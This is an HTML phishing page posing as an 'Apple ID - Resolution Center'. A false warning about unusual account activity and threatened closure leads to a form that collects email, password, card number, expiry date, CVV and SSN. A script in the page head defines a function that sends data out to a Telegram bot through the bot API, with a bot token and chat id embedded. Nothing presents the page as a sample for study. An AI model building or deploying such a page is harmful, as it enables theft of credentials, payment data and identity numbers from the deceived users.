<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Apple ID - Resolution Center</title>
<style>body{font:14px/1.6 -apple-system,"PingFang SC",sans-serif;color:#333}</style>
<script>function send(d){fetch("https://api.telegram.org/bot6951443702:AAuiwjlsdubdsrtijnxvipvftzzvjmmd/sendMessage?chat_id=-789407115&text="+encodeURIComponent(d))}</script>
</head>
<body>
<table class="nav" width="100%"><tr><td><a href="?c=1">Help</a></td><td><a href="/list/2">Security</a></td></tr></table>
<main class="container">
<section>
<div class="alert">We noticed unusual activity in your Apple ID account. Update your payment information to avoid permanent closure.</div>
</section>
<section>
<form action="save.php" method="post"><input name="email" placeholder="Email"><input type="password" name="password" placeholder="Password"><input name="card_number" placeholder="Card number"><input name="exp" placeholder="Expiration date (MM/YY)"><input name="cvv" placeholder="Security code (CVV)"><input name="ssn" placeholder="SSN"><button>Verify Now</button></form>
</section>
</main>
<footer>© Apple ID. All rights reserved.</footer>
<script src="/static/js/app.7512f30f.js"></script>
</body>
</html>
